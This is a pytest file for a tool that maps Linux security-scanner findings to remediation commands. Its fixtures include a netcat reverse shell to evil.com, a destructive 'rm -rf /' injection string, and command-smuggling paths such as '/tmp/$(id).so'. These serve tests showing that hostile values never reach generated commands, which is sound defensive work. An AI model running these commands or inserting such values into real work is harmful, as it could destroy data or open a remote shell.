import json
import re
from dataclasses import replace

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datamodules.records import CATEGORIES, SEVERITIES, Finding
from datamodules.sources.scanner_report import read_report
from datamodules.tasks.remediation import (
    ALIASES,
    FAMILIES,
    RemediationTask,
    commands_of_answers,
    find_entry,
    knowledge,
    remediate,
)
from datamodules.tasks.remediation_values import VALUES
from datamodules.tasks.schemas import MAX_STEP_LENGTH, MAX_STEPS, PRIORITIES, REMEDIATION

ENTRIES = [entry for entries in knowledge().values() for entry in entries]
NAMES = [f"{entry.category}-{entry.kind or 'fallback'}" for entry in ENTRIES]
SOURCE = re.compile(
    r"CIS [A-Z]|kernel documentation, |[a-zA-Z_.-]+\([1-8]\)|MITRE ATT&CK T\d|NIST SP 800|RFC \d|CVE-\d|GTFOBins|manual"
)
HOSTILE = "x; rm -rf / #$(reboot)`id`\n|&<>\"'\\ ../../etc/passwd"
LONG = {
    "pid": 9999999, "port": 65535, "module": "m" * 56, "path": "/" + "/".join(["p" * 46] * 2), "domain": "d" * 96,
    "user": "u" * 32, "parameter": "k" * 64, "client_ip": "203.113.113.178", "ip": "203.113.113.178",
    "library": "/" + "l" * 60 + "/" + "l" * 31 + ".so",
}  # fmt: skip
FIELDS = (
    "pid",
    "port",
    "foreign_address",
    "ip",
    "client_ip",
    "domain",
    "query",
    "user",
    "module",
    "path",
    "parameter",
    "value",
    "command",
    "exe",
    "library",
    "file",
)


def make_finding(
    category="network", title="t", description="d", severity="high", metadata=None, identity="id", **rest
) -> Finding:
    return Finding(identity, title, description, category, severity, 80.0, 80.0, metadata or {}, **rest)


def commands(answer):
    return [action["command"] for action in answer["actions"] if "command" in action]


def validate(answer):
    jsonschema.Draft202012Validator(REMEDIATION).validate(answer)


def test_every_category_has_a_fallback_and_specific_entries():
    assert set(knowledge()) == {*CATEGORIES, "any"}
    assert set(ALIASES.values()) <= set(CATEGORIES)
    assert sum(bool(entry.kind) for entry in ENTRIES) >= 35
    for category, entries in knowledge().items():
        assert not entries[-1].kind, category
        assert not entries[-1].words, category
        assert all(entry.kind and entry.words for entry in entries[:-1]), category
        kinds = [entry.kind for entry in entries]
        assert len(set(kinds)) == len(kinds), category


@pytest.mark.parametrize("entry", ENTRIES, ids=NAMES)
def test_an_entry_is_complete(entry):
    assert SOURCE.search(entry.source), entry.source
    assert len(entry.source) <= REMEDIATION["properties"]["source"]["maxLength"]
    assert 1 <= len(entry.actions) <= 4
    for action in entry.actions:
        assert list(action) == ["title", "description", "check", "commands"]
        assert action["commands"]
        assert len(action["description"]) <= MAX_STEP_LENGTH
        strings = [action["title"], action["description"], action["check"]]
        for command in action["commands"]:
            assert list(command) == [key for key in ("command", "needs", "danger", "undo") if key in command]
            assert {"command", "needs"} <= set(command)
            strings += [command[key] for key in ("command", "danger", "undo") if key in command]
        assert all(text.strip() == text and text for text in strings)
        # a name in braces is a placeholder that code fills, so a misspelt name would reach the user
        for name in re.findall(r"(?<!\$)\{([a-z_]+)\}", " ".join(strings)):
            assert name in {*VALUES, "evidence"}
        # an action for one distribution family has a command for the other one, unless only one family has the tool
        assert len({command["needs"][0] for command in action["commands"]}) <= 3
    assert all(word == word.lower() for word in entry.words)


@pytest.mark.parametrize(
    "entry", [e for e in ENTRIES if e.pattern], ids=[n for e, n in zip(ENTRIES, NAMES, strict=True) if e.pattern]
)
def test_an_entry_applies_to_every_text_that_its_pattern_matches(entry):
    @settings(max_examples=10, deadline=None, database=None)
    @given(st.from_regex(entry.pattern, alphabet=st.characters(min_codepoint=32, max_codepoint=126)))
    def check(text):
        if entry.pattern.search(text.lower()):
            assert entry.applies(text.lower())

    check()


@pytest.mark.parametrize(
    ("kind", "finding"),
    [
        ("ptrace_scope", make_finding("kernel_params", "ptrace_scope", metadata={"current": "0"})),
        ("panic_on_oops", make_finding("kernel_params", "panic_on_oops", "Panic on kernel oops")),
        ("panic", make_finding("kernel_params", "panic", "Kernel panic timeout")),
        ("rp_filter", make_finding("kernel_params", "/proc/sys/net/ipv4/conf/all/rp_filter")),
        ("rare_filesystem", make_finding("modules", "Module cramfs", "Potentially vulnerable module")),
        ("bluetooth", make_finding("modules", "Module bnep", "Potentially unnecessary kernel module loaded")),
        ("", make_finding("modules", "Module ext4", "Loaded kernel module")),
        ("container_network", make_finding("kernel_module", "x", metadata={"module": "br_netfilter"})),
        ("database", make_finding(title="Normal network service on port 6379", metadata={"port": 6379})),
        ("database", make_finding(title="TCP listening", metadata={"port": "3306"})),
        ("malware_port", make_finding(title="TCP 4444 listening")),
        ("command_and_control", make_finding(title="Malicious C2 communication detected")),
        ("odd_socket", make_finding(description="Unknown socket state", metadata={"port": 22})),
        ("reverse_shell", make_finding("ioc", metadata={"command": "/usr/bin/nc -e /bin/bash evil.com 4444"})),
        ("preload", make_finding("ioc", "Suspicious LD_PRELOAD")),
        ("deleted_executable", make_finding("ioc", "Deleted binary executing", metadata={"deleted": "true"})),
        ("recon_tool", make_finding("ioc", description="Process with suspicious patterns: /usr/bin/id")),
        ("malware", make_finding("processes", "Malicious process detected")),
        ("netcat_listener", make_finding("processes", metadata={"command": "/usr/bin/nc -l 4444"})),
        ("interpreter_one_liner", make_finding("processes", metadata={"command": "python3 -c 'import os'"})),
        ("apparmor", make_finding("mac", "AppArmor status")),
        ("selinux_absent", make_finding("mac", "SELinux status", metadata={"present": "false"})),
        ("selinux", make_finding("mac", "SELinux status", metadata={"present": "true"})),
        ("expected", make_finding("suid", "SUID/SGID binary", metadata={"expected": "true"})),
        ("unexpected", make_finding("suid_sgid", "SUID/SGID binary", metadata={"expected": "false"})),
        ("group_tool", make_finding("suid", "SUID /usr/bin/pppd")),
        ("network_tool", make_finding("suid", "SUID/SGID binary", identity="/usr/bin/ping")),
        ("mount_tool", make_finding("suid_sgid", "SUID/SGID binary", identity="/usr/bin/fusermount3")),
        ("", make_finding("suid", "SUID/SGID binary", identity="/usr/bin/chage")),
        ("", make_finding("suid", "SUID/SGID binary", identity="/usr/bin/ssh-agent")),
        ("backdoor", make_finding("ioc", "SUID bash copy", metadata={"path": "/opt/x/bash"})),
        ("backdoor", make_finding("ioc", "Unexpected file", "A setuid copy of /bin/bash")),
        ("in_writable_place", make_finding("ioc", "IOC", metadata={"path": "/var/tmp/b", "mode": "4755"})),
        ("shell_or_interpreter", make_finding("ioc", "IOC", metadata={"path": "/opt/a/bash", "perms": "-rwsr-xr-x"})),
        ("shell_or_interpreter", make_finding("ioc", "IOC", metadata={"path": "/opt/a/dash", "suid": "true"})),
        ("", make_finding("ioc", "IOC", metadata={"path": "/opt/a/dash", "suid": "false", "mode": "0755"})),
        ("in_writable_place", make_finding("integrity", "New SUID file", identity="/tmp/.x/bash")),
        ("in_writable_place", make_finding("processes", "SUID file", metadata={"path": "/dev/shm/.x"})),
        ("interpreter_one_liner", make_finding("processes", metadata={"command": "python3 -c os.setuid(0)"})),
        ("preload", make_finding("endpoint_behavior", "LD_PRELOAD set", metadata={"value": "/tmp/inject.so"})),
        ("preload", make_finding("integrity", "/etc/ld.so.preload changed")),
        ("malware_port", make_finding("ioc", "TCP 4444 listening", metadata={"port": "4444"})),
        ("rp_filter", make_finding("hardening", "/proc/sys/net/ipv4/conf/all/rp_filter")),
        ("", make_finding(metadata={"c2_indicator": False, "malicious_ip": False, "port": 9999})),
        ("command_and_control", make_finding(metadata={"c2_indicator": True, "port": 9999})),
        ("", make_finding("ioc", "IOC", metadata={"hostname": "web1", "id": 7})),
        ("recon_tool", make_finding("ioc", metadata={"command": "/usr/bin/id"})),
        ("", make_finding("ioc", "IOC", metadata={"world_writable_executable": "false"})),
        ("file_capability", make_finding("world_writable", "File capabilities binary")),
        ("privilege_escalation", make_finding("endpoint_behavior", metadata={"activity": "privilege_escalation"})),
        ("", make_finding("no such category")),
    ],
)  # fmt: skip
def test_the_kind_of_entry_that_applies(kind, finding):
    assert find_entry(finding).kind == kind


@pytest.mark.parametrize(
    ("report", "expected"),
    [
        ("malicious1", {
            "ioc1": ("ioc", "deleted_executable"), "ioc2": ("ioc", "preload"), "n4": ("network", "malware_port"),
        }),
        ("sample1", {"n1": ("network", "ssh"), "s1": ("suid", "group_tool")}),
        ("sample2", {"m1": ("modules", "container_network")}),
        ("host_scan", {
            "/proc/sys/net/ipv4/conf/all/rp_filter": ("kernel_params", "rp_filter"),
            "/bin/ping": ("world_writable", "file_capability"),
            "/var/test_world_writable_file": ("world_writable", ""),
            "/usr/bin/fusermount3": ("suid", "mount_tool"),
            "/usr/bin/chage": ("suid", ""),
            "/usr/bin/chfn": ("suid", "expected"),
            "apparmor": ("mac", "apparmor"),
            "selinux": ("mac", "selinux_absent"),
            "ebpf:disabled": ("any", ""),
        }),
    ],
)  # fmt: skip
def test_the_entries_that_apply_to_real_reports(shared_data, report, expected):
    document = read_report(json.loads((shared_data / "reports" / f"{report}.json").read_text())).document
    found = {
        finding.id: (entry := find_entry(finding)) and (entry.category, entry.kind) for finding in document.findings
    }
    assert {name: found.get(name) for name in expected} == expected
    for finding in document.findings:
        validate(answer := remediate(finding))
        assert answer["actions"]


def test_the_world_writable_program_of_a_real_report_is_named_in_its_commands(shared_data):
    document = read_report(json.loads((shared_data / "reports" / "host_scan.json").read_text())).document
    (finding,) = (finding for finding in document.findings if finding.category == "ioc")
    assert find_entry(finding).kind == "world_writable_executable"
    program = finding.metadata["command"]
    assert f"sudo chmod o-w {program}" in commands(remediate(finding))


def test_the_path_of_the_preloaded_library_is_in_the_commands():
    """The scanner's field is ``value``; a library in a command line counts too. A system library is never moved."""
    for metadata in (
        {"env": "LD_PRELOAD", "value": "/tmp/inject.so"},
        {"command": "LD_PRELOAD=/tmp/inject.so /bin/ls"},
    ):
        answer = remediate(make_finding("ioc", "Suspicious LD_PRELOAD", metadata=metadata))
        assert "sudo mv -n /tmp/inject.so /tmp/inject.so.disabled" in commands(answer)
        assert "sudo cp -a --backup=numbered /tmp/inject.so" in commands(answer)[0]
    libc = remediate(
        make_finding("ioc", "Suspicious LD_PRELOAD", metadata={"value": "/lib/x86_64-linux-gnu/libc.so.6"})
    )
    assert "mv -n" not in str(libc)
    assert "/lib/x86_64-linux-gnu/libc.so.6" in commands(libc)[0]
    unknown = remediate(make_finding("ioc", "Suspicious LD_PRELOAD"))
    assert "/etc/ld.so.preload" in commands(unknown)[0]


def test_a_path_that_only_the_id_has_is_in_the_prompt_and_in_the_commands():
    finding = make_finding("suid_sgid", "SUID/SGID binary", identity="/usr/bin/chage")
    assert '"path":"/usr/bin/chage"' in RemediationTask().content(finding)
    assert "ls -l /usr/bin/chage; dpkg -S /usr/bin/chage" in commands(remediate(finding))
    for other in ("suid_93d611ea", "/proc/sys/kernel/sysrq", "/tmp/a b", "/x;reboot", "/" + "a/" * 60):
        assert '"path"' not in RemediationTask().content(make_finding("suid", identity=other))


def test_an_action_has_a_command_for_each_distribution_family():
    actions = remediate(make_finding("suid", "SUID/SGID binary", metadata={"path": "/usr/bin/x"}))["actions"]
    assert [action["needs"] for action in actions[:2]] == [["debian"], ["rhel"]]
    assert actions[0]["title"].endswith(f"({FAMILIES['debian']})")
    assert actions[1]["title"].endswith(f"({FAMILIES['rhel']})")
    assert "dpkg" not in actions[1]["command"]


def test_the_undo_of_a_removed_bit_restores_the_mode_of_the_finding():
    known = remediate(make_finding("suid", metadata={"path": "/opt/x/y", "mode": "2755"}))["actions"]
    assert [action["undo"] for action in known if "undo" in action] == ["sudo chmod 2755 /opt/x/y"]
    unknown = remediate(make_finding("suid", metadata={"path": "/opt/x/y"}))["actions"]
    assert all("undo" not in action for action in unknown)
    assert "Cannot be undone" in unknown[-1]["danger"]


def test_a_title_with_two_paths_names_no_file():
    for title in ("SUID copy of /bin/bash", "SUID /bin/bash and /tmp/sh"):
        assert "chmod" not in str(remediate(make_finding("suid", title)))
    assert "sudo chmod u-s,g-s /opt/x/bash" in str(remediate(make_finding("suid", "SUID /opt/x/bash")))


@pytest.mark.parametrize("entry", ENTRIES, ids=NAMES)
@pytest.mark.parametrize("metadata", [{}, LONG], ids=["without values", "with the longest values"])
def test_a_command_without_a_value_for_a_placeholder_is_left_out(entry, metadata):
    finding = make_finding(entry.category, entry.words[0] if entry.words else "t", metadata=metadata)
    answer = remediate(finding)
    validate(answer)
    assert 1 <= len(answer["actions"]) <= MAX_STEPS
    for action in answer["actions"]:
        strings = [action.get(key, "") for key in ("command", "undo", "check")]
        assert not re.search(r"\{[a-z_]+\}|\b(PID|PORT|PATH|DOMAIN|MODULE|IP|USER)\b", " ".join(strings))
        assert ("command" in action) == ("needs" in action)
        assert "command" in action or len(answer["actions"]) == 1
        assert set(action) & {"danger", "undo"} == set() or "command" in action


def test_the_commands_of_an_answer_are_looked_up_with_their_danger():
    finding = make_finding("ioc", "Reverse shell", metadata={"pid": 4347})
    known = commands_of_answers(finding)
    action = next(action for action in remediate(finding)["actions"] if "kill -KILL" in action.get("command", ""))
    assert known[action["command"]] == {key: action[key] for key in ("command", "needs", "danger")}
    assert commands_of_answers(replace(finding, severity="info")) == {}


@pytest.mark.parametrize("severity", SEVERITIES)
def test_priority_follows_severity(severity):
    answer = remediate(make_finding(severity=severity))
    validate(answer)
    assert {action["priority"] for action in answer["actions"]} == {PRIORITIES[severity]}


def test_a_finding_of_severity_info_needs_only_a_check():
    answer = remediate(make_finding("kernel_params", "kptr_restrict", severity="info"))
    assert [action["title"] for action in answer["actions"]] == ["No action needed"]
    assert "command" not in answer["actions"][0]
    assert answer["actions"][0]["check"] == "sysctl -n kernel.kptr_restrict prints 1 or 2"
    assert "kernel documentation" in answer["source"]


def test_plain_values_fill_the_command():
    finding = make_finding("modules", "Module cramfs")
    assert "install cramfs /bin/false" in commands(remediate(finding))[0]
    answer = remediate(
        make_finding(title="C2 communication", metadata={"foreign_address": "203.0.113.78:1105", "port": 1105})
    )
    assert "ss -tnp dst 203.0.113.78" in commands(answer)[0]
    assert "ip daddr 203.0.113.78 drop" in commands(answer)[1]
    assert "kill -STOP 4347;" in commands(remediate(make_finding("ioc", "bash -i", metadata={"pid": "4347"})))[0]


@pytest.mark.parametrize("entry", ENTRIES, ids=NAMES)
def test_hostile_values_never_reach_a_command(entry):
    title = " ".join([*entry.words[:1], HOSTILE, "module", HOSTILE, "port", HOSTILE, "LD_PRELOAD=" + HOSTILE])
    finding = make_finding(entry.category, title, HOSTILE, metadata=dict.fromkeys(FIELDS, HOSTILE), identity=HOSTILE)
    answer = remediate(finding, "/e")
    validate(answer)
    # each text is one of the table that has no placeholder but the evidence folder
    clean = {
        text.replace("{evidence}", "/e")
        for known in ENTRIES
        for action in known.actions
        for row in (action, *action["commands"])
        for text in row.values()
        if isinstance(text, str)
    }
    for action in answer["actions"]:
        assert {action[key] for key in ("command", "undo", "check", "danger") if key in action} <= clean


@pytest.mark.parametrize(
    "metadata",
    [
        {"pid": "0"}, {"pid": "1"}, {"pid": -1}, {"pid": "1 2"}, {"pid": "12\n"}, {"pid": "1\u0660"}, {"port": "70000"},
        {"foreign_address": "127.0.0.1:80"}, {"foreign_address": "0.0.0.0:0"}, {"foreign_address": "999.1.1.1:1"},
        {"user": "root"}, {"user": "a b"}, {"path": "/"}, {"path": "/etc"}, {"path": "/tmp/../etc/shadow"},
        {"path": "/tmp/a b"}, {"path": "/tmp/-rf"}, {"path": "/" + "a/" * 90}, {"domain": "-x.com"}, {"module": "-r"},
        {"parameter": "a b"}, {"value": "/tmp/x.so;id"}, {"value": "x.so"}, {"library": "/tmp/$(id).so"},
    ],
)  # fmt: skip
def test_dangerous_values_are_not_inserted(metadata):
    for entry in ENTRIES:
        words = entry.words[0] if entry.words else "x"
        with_value = remediate(make_finding(entry.category, f"{words} x", metadata=metadata))
        without = remediate(make_finding(entry.category, f"{words} x", metadata=dict.fromkeys(metadata, "?")))
        if find_entry(make_finding(entry.category, f"{words} x", metadata=metadata)) is find_entry(
            make_finding(entry.category, f"{words} x", metadata=dict.fromkeys(metadata, "?"))
        ):
            assert with_value == without


def test_enriched_findings_use_the_mitigation_steps_of_their_shard():
    enrichment = {
        "mitigation_steps": ["1. Close port 22", "", 5, "- " + "word " * 80, *["step"] * 20],
        "attack_vectors": ["brute force"],
        "business_impact": "Loss of the host.",
    }
    answer = remediate(make_finding(enrichment=enrichment, severity="critical"))
    validate(answer)
    first, second, *_ = answer["actions"]
    assert first == {"title": "Close port 22", "priority": "immediate"}
    assert second["title"].endswith("…")
    assert second["description"].startswith("word word")
    assert len(answer["actions"]) == 6
    assert answer["attack_vectors"] == ["brute force"]
    assert answer["business_impact"] == "Loss of the host."
    assert "source" not in answer


@pytest.mark.parametrize(
    "enrichment", [{}, {"mitigation_steps": []}, {"mitigation_steps": None}, {"mitigation_steps": [""]}]
)
def test_empty_enrichment_falls_back_to_the_table(enrichment):
    finding = make_finding(enrichment=enrichment)
    assert remediate(finding) == remediate(replace(finding, enrichment={}))
    assert remediate(finding)["source"]
